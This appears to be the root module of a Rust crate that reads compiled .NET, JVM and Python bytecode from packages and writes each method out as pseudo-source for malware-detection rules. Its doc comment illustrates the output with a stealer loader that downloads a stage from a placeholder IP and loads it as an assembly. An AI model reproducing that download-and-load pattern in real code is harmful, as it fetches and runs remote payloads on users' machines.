//! Compiled code, read back into what each method calls and which strings it loads.
//!
//! NuGet packages ship .NET assemblies and Maven packages ship JVM class files, and a
//! Python package can ship bytecode (`.pyc`) in place of its source: the code that runs
//! is compiled, and a rule written for source never sees it. This crate reads these
//! formats far enough to write each method out as lines of pseudo-source (Python
//! bytecode as Python-like statements, see `python`):
//!
//! ```text
//! // method Stealer.Loader::Run
//! new System.Net.WebClient()
//! System.Net.WebClient.DownloadString("http://203.0.113.9/stage")
//! System.Reflection.Assembly.Load()
//! ```
//!
//! Calls are named by their declaring type, fully qualified, and the string constants a
//! method loads just before a call are shown as its arguments (as many as the call takes).
//! That is not decompilation: there is no data flow, only the order of the instructions.
//! It is enough for rules that look for a call with a telling literal, and it keeps the
//! evidence checkable: every line names its method.
//!
//! Every input is hostile: offsets and counts are checked against the data, and the view
//! stops growing at [`MAX_VIEW`] bytes.

mod bytes;
mod dotnet;
mod il;
mod jvm;
mod machine;
mod python;
mod view;

pub use view::{LineNote, View};

/// The most text a view holds; a larger assembly is read up to that point.
pub const MAX_VIEW: usize = 8 << 20;

/// Which compiled format a view was read from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// A PE file with a CLI header: a .NET assembly or module.
    DotNet,
    /// A JVM class file.
    Jvm,
    /// CPython bytecode: a `.pyc` file.
    Pyc,
}

/// Why a file that looks compiled could not be read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ReadError {
    pub format: Format,
    pub reason: String,
}

impl std::fmt::Display for ReadError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let format = match self.format {
            Format::DotNet => ".NET assembly",
            Format::Jvm => "JVM class file",
            Format::Pyc => "Python bytecode file",
        };
        write!(f, "unreadable {format}: {}", self.reason)
    }
}

impl std::error::Error for ReadError {}

/// The format of `data`, from its first bytes, if it is one this crate reads. A PE file
/// counts only with a CLI header: native executables are not .NET code.
pub fn format_of(data: &[u8]) -> Option<Format> {
    if data.starts_with(&[0xCA, 0xFE, 0xBA, 0xBE]) && data.len() >= 10 {
        // Mach-O universal binaries share the magic; their next word is a small count of
        // architectures where a class file has its version (major 45 or more).
        let major = u16::from_be_bytes([data[6], data[7]]);
        return (major >= 45).then_some(Format::Jvm);
    }
    if python::is_pyc(data) {
        return Some(Format::Pyc);
    }
    dotnet::has_cli_header(data).then_some(Format::DotNet)
}

/// The view of a compiled file: `Ok(None)` when `data` is not a format read here.
pub fn read(data: &[u8]) -> Result<Option<View>, ReadError> {
    match format_of(data) {
        None => Ok(None),
        Some(Format::DotNet) => dotnet::read(data).map(Some).map_err(|reason| ReadError {
            format: Format::DotNet,
            reason,
        }),
        Some(Format::Jvm) => jvm::read(data).map(Some).map_err(|reason| ReadError {
            format: Format::Jvm,
            reason,
        }),
        Some(Format::Pyc) => python::read(data).map(Some).map_err(|reason| ReadError {
            format: Format::Pyc,
            reason,
        }),
    }
}
